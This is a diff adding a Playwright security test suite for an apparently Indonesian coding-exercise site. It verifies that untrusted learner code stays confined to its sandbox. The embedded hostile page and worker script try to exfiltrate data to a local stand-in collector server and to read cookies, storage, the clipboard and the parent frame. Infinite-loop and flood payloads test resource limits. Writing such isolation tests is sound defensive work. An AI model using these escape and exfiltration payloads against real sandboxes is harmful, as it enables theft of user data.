@@ -1,0 +1,188 @@
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Page } from '@playwright/test'
+import { enrollNewStudent } from './courses.ts'
+import { publishExercise } from './exercises.ts'
+import { expect, ready, test, thorough } from './test.ts'
+
+// Hostile code of a teacher or a learner, in a real browser: it reaches no server, no token, no other frame, and stops.
+
+test.use({ serviceWorkers: 'block', expectedConsoleErrors: [/./] })
+
+let spy: Server
+let spyUrl: string
+const received: string[] = []
+test.beforeAll(async () => {
+  spy = createServer((request, response) => {
+    received.push(request.url ?? '')
+    response.setHeader('access-control-allow-origin', '*').end('ok')
+  })
+  await new Promise<void>((resolve) => spy.listen(0, '127.0.0.1', resolve))
+  spyUrl = `http://127.0.0.1:${(spy.address() as AddressInfo).port}`
+})
+test.afterAll(() => new Promise((resolve) => spy.close(resolve)))
+test.beforeEach(() => void received.splice(0))
+
+type Language = 'web' | 'javascript'
+const fileOf = { web: 'index.html', javascript: 'utama.js' }
+
+async function runHostile(
+  page: Page,
+  request: Parameters<typeof publishExercise>[0],
+  language: Language,
+  text: string,
+) {
+  const exercise = await publishExercise(request, 'Kelas jahat', {
+    language,
+    files: [{ path: fileOf[language], text }],
+    tests: "tes('selesai', () => harap(1).sama(1))",
+  })
+  await enrollNewStudent(page, exercise.id)
+  await page.goto(exercise.url)
+  await ready(page)
+  await page.getByRole('tab', { name: 'Kode' }).click()
+  await page.getByRole('button', { name: 'Jalankan' }).click()
+  return exercise
+}
+
+/** The page is as it was, and answers. */
+async function expectUnharmed(page: Page, url: string) {
+  expect(new URL(page.url()).pathname + new URL(page.url()).search).toBe(url)
+  await expect(page).toHaveTitle(/Latihan menjumlah/)
+  await page.getByRole('tab', { name: 'Tugas' }).click()
+  await expect(page.getByText('Jumlahkan dua angka.')).toBeVisible()
+  expect(page.context().pages()).toHaveLength(1)
+  expect(received).toEqual([])
+}
+
+test(
+  'a hostile page sends nothing, reads nothing of the site, and changes nothing outside of its frame',
+  thorough,
+  async ({ page, request }) => {
+    test.slow()
+    const attack = (name: string, code: string) =>
+      `try { await (async () => { ${code} })(); hasil.push('${name}') } catch { hasil.push('${name} ditolak') }`
+    const html = `<!doctype html><html><head><title>Dicuri</title>
+    <meta http-equiv="refresh" content="0;url=${spyUrl}/meta">
+    <link rel="prefetch" href="${spyUrl}/prefetch"><link rel="preconnect" href="${spyUrl}"><link rel="stylesheet" href="${spyUrl}/gaya">
+    <style>@import url(${spyUrl}/impor); body { background: url(${spyUrl}/latar) } @font-face { font-family: x; src: url(${spyUrl}/huruf) } p { font-family: x }</style>
+    </head><body><p>a</p><img src="${spyUrl}/gambar"><iframe src="${spyUrl}/bingkai"></iframe>
+    <form id="f" action="${spyUrl}/formulir" method="post"><input name="a"></form><a id="a" href="${spyUrl}/tautan" target="_top">a</a>
+    <script>
+    const hasil = [];
+    (async () => {
+      ${attack('fetch', `await fetch('${spyUrl}/fetch')`)}
+      ${attack('fetch situs', "await fetch('/api/me')")}
+      ${attack('beacon', `if (!navigator.sendBeacon('${spyUrl}/beacon')) throw 0`)}
+      ${attack('xhr', `const x = new XMLHttpRequest(); x.open('GET', '${spyUrl}/xhr', false); x.send()`)}
+      ${attack('gambar', `await new Promise((a, b) => { const i = new Image(); i.onload = a; i.onerror = b; i.src = '${spyUrl}/gambar2' })`)}
+      ${attack('soket', `await new Promise((a, b) => { const w = new WebSocket('${spyUrl.replace('http', 'ws')}/soket'); w.onopen = a; w.onerror = b })`)}
+      ${attack('peristiwa', `await new Promise((a, b) => { const w = new EventSource('${spyUrl}/peristiwa'); w.onopen = a; w.onerror = b })`)}
+      ${attack('webrtc', 'new RTCPeerConnection()')}
+      ${attack('impor', `await import('${spyUrl}/modul.js')`)}
+      ${attack('pekerja', `await new Promise((a, b) => { const w = new Worker('${spyUrl}/pekerja.js'); w.onmessage = a; w.onerror = b })`)}
+      ${attack('pekerja blob', `await new Promise((a, b) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${spyUrl}/blob').then(() => postMessage(1), () => { throw 0 })"]))); w.onmessage = a; w.onerror = b; setTimeout(b, 800) })`)}
+      ${attack('service worker', "await navigator.serviceWorker.register('/sw.js')")}
+      ${attack('penyimpanan', 'localStorage.length')}
+      ${attack('kuki', 'document.cookie')}
+      ${attack('basis data', "await new Promise((a, b) => { const r = indexedDB.open('x'); r.onsuccess = a; r.onerror = b })")}
+      ${attack('cache', "await caches.open('x')")}
+      ${attack('induk', 'parent.document.title')}
+      ${attack('induk penyimpanan', 'top.localStorage.length')}
+      ${attack('papan klip', 'await navigator.clipboard.readText()')}
+      ${attack('memori bersama', 'new SharedArrayBuffer(1)')}
+      ${attack('eval', "eval('1')")}
+      ${attack('jendela', `if (!window.open('${spyUrl}/jendela')) throw 0`)}
+      for (const code of [() => f.submit(), () => a.click(), () => (top.location = '${spyUrl}/atas'), () => (document.domain = 'x'), () => alert(1), () => print()]) try { code() } catch {}
+      parent.postMessage({ nonce: 'x', run: 1, message: { kind: 'done' } }, '*')
+      const bingkai = document.createElement('iframe'); bingkai.srcdoc = "<script>fetch('${spyUrl}/dalam'); new Image().src='${spyUrl}/dalam2'</scr" + "ipt>"; document.body.append(bingkai)
+      const gaya = document.createElement('style'); gaya.textContent = "body { background: url(${spyUrl}/gaya2) }"; document.head.append(gaya)
+      console.log('HASIL ' + hasil.join(','))
+    })()
+    </script></body></html>`
+    const { url } = await runHostile(page, request, 'web', html)
+    const report = page.getByText(/^HASIL /)
+    await expect(report).toBeVisible()
+    const succeeded = (await report.innerText())
+      .replace('HASIL ', '')
+      .split(',')
+      .filter((name) => !name.endsWith('ditolak'))
+    expect(succeeded).toEqual([])
+    await expectUnharmed(page, url)
+  },
+)
+
+test('a page that navigates itself away is closed with a sentence', thorough, async ({ page, request }) => {
+  const { url } = await runHostile(
+    page,
+    request,
+    'web',
+    `<p>a</p><script>setTimeout(() => { location = '${spyUrl}/pergi' }, 100)</script>`,
+  )
+  await expectUnharmed(page, url)
+})
+
+test('hostile code in a worker sends nothing and finds no token', thorough, async ({ page, request }) => {
+  const code = `const hasil = []
+    for (const [nama, coba] of Object.entries({
+      xhr() { const x = new XMLHttpRequest(); x.open('GET', '${spyUrl}/xhr', false); x.send() },
+      impor() { importScripts('${spyUrl}/impor.js') },
+      penyimpanan() { localStorage.length },
+      induk() { parent.document },
+      memori() { new SharedArrayBuffer(1) },
+      fungsi() { new Function('return 1')() },
+    })) try { coba(); hasil.push(nama) } catch {}
+    fetch('${spyUrl}/fetch').then(() => console.log('BOCOR'), () => console.log('HASIL ' + hasil.join(',')))`
+  const { url } = await runHostile(page, request, 'javascript', code)
+  await expect(page.getByText(/^HASIL\s*$/)).toBeVisible()
+  await expectUnharmed(page, url)
+})
+
+for (const [name, language, code, sentence] of [
+  ['an endless loop', 'javascript', 'while (true) {}', /dihentikan setelah 5 detik/],
+  [
+    'an endless loop in a promise',
+    'javascript',
+    'Promise.resolve().then(() => { for (;;) {} })',
+    /dihentikan setelah 5 detik/,
+  ],
+  [
+    'endless microtasks',
+    'javascript',
+    'const ulang = () => Promise.resolve().then(ulang)\nulang()',
+    /Semua 1 tes lulus|dihentikan setelah 5 detik/,
+  ],
+  [
+    'a flood of messages',
+    'javascript',
+    "for (;;) postMessage({ kind: 'line', level: 'log', text: 'x' })",
+    /keluarannya terlalu banyak|dihentikan setelah 5 detik/,
+  ],
+  [
+    '10 MB of output',
+    'javascript',
+    "for (let i = 0; i < 1e5; i++) console.log('x'.repeat(100))",
+    /Sisanya tidak tampil/,
+  ],
+  ['recursion', 'javascript', 'function f() { return f() }\nf()', /memanggil dirinya tanpa henti/],
+  ['a syntax error', 'javascript', 'const a = 1\nconst b = (2', /utama\.js, baris 2|utama\.js, baris 3/],
+  [
+    'endless alerts in a page',
+    'web',
+    '<p>a</p><script>while (true) alert(1)</script>',
+    /keluarannya terlalu banyak|dihentikan setelah 5 detik/,
+  ],
+  ['an endless loop in a page', 'web', '<p>a</p><script>while (true);</script>', /dihentikan setelah 5 detik/],
+  [
+    'an endless loop in a getter of a page',
+    'web',
+    '<p>a</p><script>const o = { get a() { for (;;) {} } }; o.a</script>',
+    /dihentikan setelah 5 detik/,
+  ],
+  ['broken HTML', 'web', '<<p><div </span><table><h1>Halo<script>', /1 dari 1|Semua 1 tes lulus/],
+] as const)
+  test(`${name} ends in a sentence`, thorough, async ({ page, request }) => {
+    const { url } = await runHostile(page, request, language, code)
+    await expect(page.getByText(sentence).first()).toBeVisible({ timeout: 15_000 })
+    await expectUnharmed(page, url)
+  })
